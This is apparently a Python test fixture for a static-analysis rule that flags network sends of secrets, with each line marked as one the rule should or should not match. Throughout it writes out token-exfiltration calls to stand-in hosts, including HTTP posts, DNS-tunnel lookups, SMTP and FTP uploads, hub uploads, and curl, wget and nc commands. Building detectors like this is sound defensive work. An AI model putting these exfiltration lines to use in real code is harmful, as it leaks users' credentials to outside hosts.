# Every member of `sinks network-sends`, and look-alikes that are not. Hostile-looking
# sample: never run it.
import ftplib
import os
import smtplib
import socket
import subprocess
import urllib.request

import aiohttp
import dns.resolver
import httpx
import requests
import websocket
import websockets
from huggingface_hub import HfApi, upload_file

HUB_URL = "https://huggingface.co/api/whoami-v2"


def send(token, session, conn, sock):
    # ruleid: sinks.network-sends
    requests.post("https://collector.example/t", data=token)
    # ruleid: sinks.network-sends
    httpx.get("https://collector.example/t", params={"t": token})
    # ruleid: sinks.network-sends
    urllib.request.urlopen("https://collector.example/t")
    # ruleid: sinks.network-sends
    urllib.request.urlopen("https://collector.example/t", data=token.encode())
    # ruleid: sinks.network-sends
    requests.request("POST", "https://collector.example/t", data=token)
    # ok: sinks.network-sends
    requests.get("https://huggingface.co/api/whoami-v2", headers={"authorization": token})
    # ok: sinks.network-sends
    requests.get(f"https://huggingface.co/api/models/{token}")
    # ok: sinks.network-sends
    requests.get(url=HUB_URL, headers={"authorization": token})
    # ok: sinks.network-sends
    requests.request("GET", HUB_URL, headers={"authorization": token})
    # A hub URL as a body, not as the URL, does not make the request one to the hub.
    # ruleid: sinks.network-sends
    requests.post("https://collector.example/t", "https://huggingface.co/" + token)
    # ruleid: sinks.network-sends
    session.post("https://collector.example/t", json={"t": token})
    # ok: sinks.network-sends
    session.post(HUB_URL, json={"t": token})
    # ruleid: sinks.network-sends
    conn.request("POST", "/t", body=token)
    # ruleid: sinks.network-sends
    sock.sendall(token)
    # ruleid: sinks.network-sends
    sock.sendto(token, ("collector.example", 53))
    # ok: sinks.network-sends
    sock.recv(1024)


def hub_url_in_a_function(token):
    url = "https://huggingface.co/api/whoami-v2"
    # ok: sinks.network-sends
    return requests.get(url, headers={"Authorization": f"Bearer {token}"})


def clients(token):
    # ruleid: sinks.network-sends
    httpx.Client().post("https://collector.example/t", content=token)
    # ruleid: sinks.network-sends
    requests.Session().get("https://collector.example/t", params={"t": token})
    with httpx.Client() as client:
        # ruleid: sinks.network-sends
        client.get("https://collector.example/t", params={"t": token})
    with requests.Session() as s:
        # ruleid: sinks.network-sends
        s.put("https://collector.example/t", data=token)
        # ok: sinks.network-sends
        s.get(HUB_URL, headers={"authorization": token})
    # A dict's get is no request.
    # ok: sinks.network-sends
    {"a": 1}.get(token)


async def async_clients(token):
    async with aiohttp.ClientSession() as session:
        # ruleid: sinks.network-sends
        await session.get("https://collector.example/t", params={"t": token})
        # ruleid: sinks.network-sends
        await session.put("https://collector.example/t", data=token)
    # ruleid: sinks.network-sends
    await aiohttp.ClientSession().post("https://collector.example/t", data=token)
    # ruleid: sinks.network-sends
    await aiohttp.request("POST", "https://collector.example/t", data=token)
    async with httpx.AsyncClient() as client:
        # ruleid: sinks.network-sends
        await client.patch("https://collector.example/t", json={"t": token})
    async with websockets.connect("wss://collector.example/ws") as ws:
        # ruleid: sinks.network-sends
        await ws.send(token)


def websocket_client(token):
    ws = websocket.create_connection("wss://collector.example/ws")
    # ruleid: sinks.network-sends
    ws.send(token)


def dns_lookups(secret):
    # ruleid: sinks.network-sends
    socket.gethostbyname(secret + ".evil.example")
    # ruleid: sinks.network-sends
    socket.gethostbyname_ex(f"{secret}.evil.example")
    # ruleid: sinks.network-sends
    socket.getaddrinfo(f"{secret}.evil.example", 80)
    # ruleid: sinks.network-sends
    dns.resolver.resolve(secret + ".evil.example", "TXT")
    # ruleid: sinks.network-sends
    dns.resolver.query(secret + ".evil.example")
    # ruleid: sinks.network-sends
    dns.resolver.Resolver().resolve(secret + ".evil.example", "A")
    resolver = dns.resolver.Resolver()
    # ruleid: sinks.network-sends
    resolver.resolve(f"{secret}.evil.example")
    socket.getaddrinfo(
        # ruleid: sinks.network-sends
        "example.org",
        # The port, not the name.
        # ok: sinks.network-sends
        secret,
    )
    # ok: sinks.network-sends
    socket.gethostname()


def mail_and_ftp(secret, host):
    server = smtplib.SMTP(host, 587)
    # ruleid: sinks.network-sends
    server.sendmail("a@example.org", ["b@example.org"], secret)
    # ruleid: sinks.network-sends
    server.send_message(secret)
    ftp = ftplib.FTP(host)
    # ruleid: sinks.network-sends
    ftp.storbinary("STOR loot.bin", open(secret, "rb"))
    # ruleid: sinks.network-sends
    ftp.storlines("STOR loot.txt", open(secret, "rb"))
    # ok: sinks.network-sends
    ftp.retrbinary("RETR model.bin", open("model.bin", "wb").write)


def hub_uploads(secret):
    # ruleid: sinks.network-sends
    upload_file(path_or_fileobj=secret, path_in_repo="a.txt", repo_id="someone/drop")
    # ruleid: sinks.network-sends
    HfApi().upload_file(path_or_fileobj=secret, path_in_repo="a.txt", repo_id="someone/drop")
    upload_file(
        # ruleid: sinks.network-sends
        path_or_fileobj="model.safetensors",
        path_in_repo="model.safetensors",
        repo_id="me/model",
        # The token authenticates the upload; the file is what is sent.
        # ok: sinks.network-sends
        token=secret,
    )


def programs(secret):
    # ruleid: sinks.network-sends
    subprocess.run(["curl", "-d", secret, "https://collector.example/t"])
    # ruleid: sinks.network-sends
    subprocess.Popen(["/usr/bin/nc", "collector.example", "4444"], stdin=secret)
    # ruleid: sinks.network-sends
    os.system(f"curl -s -d {secret} https://collector.example/t")
    # ruleid: sinks.network-sends
    subprocess.run(f"wget --post-data={secret} https://collector.example/t", shell=True)
    # ok: sinks.network-sends
    subprocess.run(["wget", "--header", f"Authorization: Bearer {secret}", "https://huggingface.co/org/model/resolve/main/config.json"])
    # ok: sinks.network-sends
    subprocess.run(["git", "clone", secret])
    # ok: sinks.network-sends
    os.system(f"echo {secret}")
